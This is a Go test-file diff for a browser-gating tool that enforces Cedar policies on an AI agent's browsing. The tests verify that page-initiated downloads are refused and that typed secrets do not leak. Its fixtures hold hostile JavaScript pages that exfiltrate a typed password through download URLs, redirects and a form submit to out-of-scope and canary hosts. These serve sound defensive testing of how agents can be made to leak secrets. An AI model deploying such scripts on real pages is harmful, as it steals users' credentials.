@@ -4,10 +4,12 @@ import (
 	"fmt"
 	"io/fs"
 	"net/http"
+	"net/url"
 	"os"
 	"path/filepath"
 	"slices"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 
@@ -335,6 +337,230 @@ func TestPageDownloadsHeldForApproval(t *testing.T) {
 			}
 		default:
 			t.Errorf("a record of %s", name)
+		}
+	}
+}
+
+// TestLivePageDownloadsAreDecidedByCedar: in the user's own browser, the
+// downloads a page starts by itself (a link it clicks, a data: URL, a
+// blob) are decided by Cedar as in a browser of browsergate's: in the
+// session's own tab, and in a user's tab whose adoption reload starts
+// them (the page downloads only when reloaded). A policy forbidding the
+// downloads of /auto refuses all six; none is saved, in download_dir,
+// the staging directory or the user's download folder.
+func TestLivePageDownloadsAreDecidedByCedar(t *testing.T) {
+	t.Parallel()
+	port, _ := startChromium(t)
+	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
+	dir := t.TempDir()
+	down, tmp, xdg := filepath.Join(dir, "downloads"), filepath.Join(dir, "tmp"), filepath.Join(dir, "xdg")
+	for _, d := range []string{down, tmp, xdg} {
+		if err := os.Mkdir(d, 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	policies := testkit.CopyPolicies(t)
+	testkit.WriteFile(t, policies, "test-downloads.cedar", `@id("no-downloads-from-auto")
+forbid (principal, action == Web::Action::"browse", resource)
+when { resource.command == "download" && resource.page_state.url like "*/auto*" };
+`)
+	f := startClientEnv(t, fmt.Sprintf(e2eManifest, "live", fmt.Sprintf("live_endpoint = %q", endpoint))+fmt.Sprintf(`[browser.commands.download]
+[browser.files]
+download_dir = %q
+`, down), nil, []string{"TMPDIR=" + tmp, "XDG_DOWNLOAD_DIR=" + xdg}, "--policies", policies)
+	mux := http.NewServeMux()
+	mux.HandleFunc("/auto", func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, autoDownloads("auto")) })
+	mux.HandleFunc("/auto-on-reload", func(w http.ResponseWriter, r *http.Request) {
+		// autoDownloads("reload"), only when reloaded.
+		page := strings.Replace(autoDownloads("reload"), "<script>",
+			"<script>if (performance.getEntriesByType('navigation')[0].type === 'reload') {", 1)
+		fmt.Fprint(w, strings.Replace(page, "</script>", "}</script>", 1))
+	})
+	mux.HandleFunc("/file", func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "application/octet-stream")
+		w.Header().Set("Content-Disposition", `attachment; filename="`+r.URL.Query().Get("n")+`"`)
+		fmt.Fprint(w, "bytes")
+	})
+	site, stop, err := serveOn("127.0.0.1:0", mux)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stop)
+	const refused = "refused at cedar (policy no-downloads-from-auto)"
+	out := f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/auto"})
+	f.untilReplied(t, out, `("auto-link.txt") `+refused, `("auto-data.txt") `+refused, `("auto-blob.txt") `+refused)
+	usersTab(t, endpoint, site+"/auto-on-reload")
+	tab := f.waitListed(t, "/auto-on-reload")
+	out = f.mustAllow(t, "e2e.switch_tab", map[string]any{"tab": tab})
+	// The blob download of the reload is not awaited: Chromium may hold a
+	// tab's third automatic download of a site that already made three
+	// (its multiple-downloads prompt, which a headless browser leaves
+	// unanswered), and then it never starts. Whatever starts is refused.
+	f.untilReplied(t, out, `("reload-link.txt") `+refused, `("reload-data.txt") `+refused)
+	testkit.Eventually(t, func() string {
+		if left := staged(t, tmp); len(left) > 0 {
+			return fmt.Sprintf("refused downloads left in the staging directory: %q", left)
+		}
+		return ""
+	})
+	for _, d := range []string{down, xdg} {
+		if names := dirNames(t, d); len(names) > 0 {
+			t.Errorf("refused downloads were saved in %s: %q", d, names)
+		}
+	}
+	f.cs.Close()
+	recs, _ := pageDownloadRecords(t, f.evidence)
+	if len(recs) != 6 {
+		t.Errorf("%d page_download records, want 6", len(recs))
+	}
+	for _, e := range recs {
+		if e.Decision.Allowed || e.Decision.Stage != evidence.StageCedar {
+			t.Errorf("record %d of %v: %+v", e.Seq, e.Files, e.Decision)
+		}
+	}
+}
+
+// TestPageDownloadCannotCarryTheSecret: after the secret is typed, the
+// field's page starts downloads by itself whose URLs carry the value: to
+// a host in the scope but outside the secret's domains (127.0.0.3), to
+// the canary outside the scope, and by a form with a download response.
+// Neither the other host nor the canary sees the value, and the replies
+// do not show it to the agent in any encoding the URLs carry it in.
+func TestPageDownloadCannotCarryTheSecret(t *testing.T) {
+	t.Parallel()
+	port, _ := startChromium(t)
+	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
+	down := t.TempDir()
+	manifest := liveSecretFilesManifest(endpoint, "download", "download_dir", down)
+	f := startWith(t, manifest)
+	var mu sync.Mutex
+	var other []string
+	xhost, stopX, err := serveOn("127.0.0.3:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		other = append(other, r.URL.String())
+		mu.Unlock()
+		w.Header().Set("Content-Disposition", `attachment; filename="x.txt"`)
+		fmt.Fprint(w, "x")
+	}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stopX)
+	site, stopSite, err := serveOn("127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path == "/redir" {
+			http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
+			return
+		}
+		if r.URL.Path == "/file" {
+			w.Header().Set("Content-Disposition", `attachment; filename="own.txt"`)
+			fmt.Fprint(w, "own")
+			return
+		}
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprintf(w, `<title>form</title><input type=password id=pw aria-label=Password>
+<form id=f method=GET target=_self><input name=pw id=h></form><script>
+const dl = (href, name) => { const a = document.createElement('a'); a.href = href; a.download = name; document.body.append(a); a.click(); };
+let done = false;
+document.getElementById('pw').addEventListener('input', e => {
+  const v = e.target.value;
+  if (done || v.length < 10) return;
+  done = true;
+  const steps = [
+    () => dl('/redir?to=' + encodeURIComponent(%[1]q + '/redir-dl?pw=' + encodeURIComponent(v)), 'r.txt'),
+    () => dl('/redir?to=' + encodeURIComponent(%[2]q + '/redir-dl?pw=' + encodeURIComponent(v)), 'r2.txt'),
+    () => dl('/redir?to=' + encodeURIComponent(%[1]q + '/redir-dl?pw=' + encodeURIComponent(v)), 'r3.txt'),
+    () => dl(%[1]q + '/dl?pw=' + encodeURIComponent(v), 'a.txt'),
+    () => dl(%[2]q + '/dl?pw=' + encodeURIComponent(v), 'b.txt'),
+    () => { const f = document.getElementById('f'); f.action = %[1]q + '/form'; document.getElementById('h').value = v; f.submit(); },
+  ];
+  // The first during the type_text (its acting guard stops it), the
+  // others once the call has returned, between calls.
+  // The first during the type_text (its acting guard stops it); on
+  // ?later=N step N, once the call has returned, between calls (each
+  // takes the tab away, to a download's navigation or a refusal).
+  const later = Number(new URLSearchParams(location.search).get('later'));
+  if (!later) steps[0]();
+  else setTimeout(steps[later], 2500);
+});
+</script>`, xhost, f.canaryTo)
+	}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stopSite)
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/form"})
+	out, _ := f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
+	t.Logf("type_text:\n%s", out)
+	// The refusal names a URL that carries the value encoded twice (a URL
+	// in the site's redirect parameter): the agent gets none of it.
+	if twice := url.QueryEscape(url.QueryEscape(secretValue)); strings.Contains(out, twice[len(twice)/2:]) {
+		t.Errorf("the reply shows the value's second half, percent-encoded twice:\n%s", out)
+	}
+	for n := 1; n <= 5; n++ {
+		f.mustAllow(t, "e2e.navigate", map[string]any{"url": fmt.Sprintf("%s/form?later=%d", site, n)})
+		out, _ = f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
+		time.Sleep(4 * time.Second)
+		later, _ := f.call(t, "e2e.snapshot", nil)
+		t.Logf("step %d: type_text:\n%s\nsnapshot:\n%s", n, out, later)
+		if twice := url.QueryEscape(url.QueryEscape(secretValue)); strings.Contains(later, twice[len(twice)/2:]) {
+			t.Errorf("the snapshot shows the value's second half, percent-encoded twice:\n%s", later)
+		}
+	}
+	f.canaryHasSecret(t, "the page's downloads after the secret")
+	t.Logf("list_tabs: %s", f.mustAllow(t, "e2e.list_tabs", nil))
+	mu.Lock()
+	defer mu.Unlock()
+	for _, u := range other {
+		if strings.Contains(u, "pw=") {
+			t.Errorf("the host outside the secret's domains saw %s", u)
+		}
+	}
+	t.Logf("127.0.0.3 saw %q", other)
+}
+
+// TestPageDownloadNamedByTheSecretIsMasked: after the secret is typed, the
+// page saves a blob download named by the value and holding it. The
+// agent's replies and the evidence do not show the value in the file's
+// name (the masker's runs). What a page transforms beyond the spellings
+// the masker reads (here punctuation made "_", leaving runs under six
+// characters) and the file's SHA-256 and size, which the reply gives, are
+// the page's own choice of what to show: a page that has the value can
+// always show it transformed.
+func TestPageDownloadNamedByTheSecretIsMasked(t *testing.T) {
+	t.Parallel()
+	port, _ := startChromium(t)
+	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
+	down := t.TempDir()
+	f := startWith(t, liveSecretFilesManifest(endpoint, "download", "download_dir", down))
+	site, _ := serveLogged(t, map[string]string{
+		"/form": `<title>form</title><input type=password id=pw aria-label=Password><script>
+let done = false;
+document.getElementById('pw').addEventListener('input', e => {
+  const v = e.target.value;
+  if (done || v.length < 24) return;
+  done = true;
+  setTimeout(() => {
+    const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([v])); a.download = 'pw-' + v.replace(/[^A-Za-z0-9-]/g, '_') + '.txt';
+    document.body.append(a); a.click();
+  }, 100);
+});
+</script>`,
+	})
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/form"})
+	out, _ := f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
+	time.Sleep(2 * time.Second)
+	later, _ := f.call(t, "e2e.snapshot", nil)
+	t.Logf("type_text:\n%s\nsnapshot:\n%s\nsaved: %q", out, later, dirNames(t, down))
+	for _, text := range []string{out, later} {
+		if strings.Contains(text, "Sup3r-S3cret") {
+			t.Errorf("a reply shows the value in the download's name:\n%s", text)
+		}
+	}
+	f.cs.Close()
+	recs, _ := pageDownloadRecords(t, f.evidence)
+	for _, e := range recs {
+		if strings.Contains(fmt.Sprint(e.Files, e.Args, e.Output), "Sup3r-S3cret") {
+			t.Errorf("record %d shows the value: %v %v %q", e.Seq, e.Files, e.Args, e.Output)
 		}
 	}
 }
